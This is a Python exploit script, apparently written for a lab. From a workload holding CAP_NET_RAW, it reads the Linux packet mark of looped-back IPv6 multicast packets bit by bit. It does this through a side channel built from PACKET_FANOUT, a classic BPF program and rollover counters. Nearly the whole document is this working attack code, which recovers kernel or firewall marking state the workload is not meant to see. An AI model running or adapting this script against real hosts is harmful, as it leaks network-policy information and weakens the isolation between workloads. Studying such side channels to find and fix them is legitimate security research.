"""Reads the mark of packets that come back to their sender, bit by bit, as a workload can.

    python mark_thief.py DEVICE OWN_IPV6_ADDRESS

The kernel hands a packet that is sent to a multicast group of the sender's own back to it, from
behind the last chain. Packet sockets are not shown such a packet, but a group of them (packet(7),
PACKET_FANOUT) is asked by a classic BPF program which of them shall have it, and that program may
read the mark. Its choice shows: where the chosen socket is full, the next one takes over, and that
is counted (PACKET_ROLLOVER_STATS, linux/if_packet.h). It takes CAP_NET_RAW. Prints the mark. A
program of its own, standard library only, for a workload of the lab.
"""

import ctypes
import os
import socket
import struct
import sys
import time

# Numbers from linux/if_packet.h, linux/filter.h and linux/bpf_common.h.
SOL_PACKET = 263
PACKET_FANOUT, PACKET_ROLLOVER_STATS, PACKET_FANOUT_DATA = 18, 21, 22
FANOUT_CBPF, FLAG_ROLLOVER = 6, 0x1000
ETH_P_ALL = 3
LOAD, LOAD_TYPE, LOAD_MARK = 0x20, 0xFFFFF000 + 4, 0xFFFFF000 + 20
IF_EQUAL, RETURN, SHIFT_RIGHT, AND = 0x15, 0x06, 0x74, 0x54
PACKET_LOOPBACK = 5
FULL, ROOMY = 0, 1
TRIES = 3

Instruction = tuple[int, int, int, int]


class Thief:
    """Two packet sockets on `device`, the first of them full."""

    def __init__(self, device: str, own: str) -> None:
        """Make the sockets, and fill the first one."""
        self._device, self._own = device, socket.inet_pton(socket.AF_INET6, own)
        self._sockets = [self._member(size) for size in (2048, 1 << 20)]
        self._choose([(RETURN, 0, 0, FULL)])
        while self._took_over() < TRIES:
            self._solicit()

    def mark(self) -> int:
        """Return the mark of a packet that comes back."""
        return sum(1 << bit for bit in range(32) if self._is_set(bit))

    def _member(self, size: int) -> socket.socket:
        member = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        member.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, size)
        member.bind((self._device, ETH_P_ALL))
        how = os.getpid() & 0xFFFF | (FANOUT_CBPF | FLAG_ROLLOVER) << 16
        member.setsockopt(SOL_PACKET, PACKET_FANOUT, struct.pack("=I", how))
        return member

    def _choose(self, program: list[Instruction]) -> None:
        """Let `program` say which socket gets a packet."""
        code = ctypes.create_string_buffer(b"".join(struct.pack("=HBBI", *i) for i in program))
        given = struct.pack("@HP", len(program), ctypes.addressof(code))
        self._sockets[0].setsockopt(SOL_PACKET, PACKET_FANOUT_DATA, given)

    def _took_over(self) -> int:
        """Return how often the second socket took over from the first, which was full."""
        counters = self._sockets[0].getsockopt(SOL_PACKET, PACKET_ROLLOVER_STATS, 24)
        return int(struct.unpack("=3Q", counters)[0])

    def _is_set(self, bit: int) -> bool:
        self._choose(
            [
                (LOAD, 0, 0, LOAD_TYPE),
                (IF_EQUAL, 0, 4, PACKET_LOOPBACK),
                (LOAD, 0, 0, LOAD_MARK),
                (SHIFT_RIGHT, 0, 0, bit),
                (AND, 0, 0, 1),
                (IF_EQUAL, 1, 0, 1),
                (RETURN, 0, 0, ROOMY),
                (RETURN, 0, 0, FULL),
            ]
        )
        before = self._took_over()
        for _ in range(TRIES):
            self._solicit()
        time.sleep(0.01)
        return self._took_over() > before

    def _solicit(self) -> None:
        """Ask for our own address, in the group that we are in ourselves (RFC 4861)."""
        group = bytes.fromhex("ff0200000000000000000001ff") + self._own[-3:]
        with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as out:
            index = socket.if_nametoindex(self._device)
            out.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, index)
            question = struct.pack("!BBHI", 135, 0, 0, 0) + self._own
            out.sendto(question, (socket.inet_ntop(socket.AF_INET6, group), 0))


if __name__ == "__main__":
    sys.stdout.write(f"{Thief(*sys.argv[1:]).mark():#x}\n")
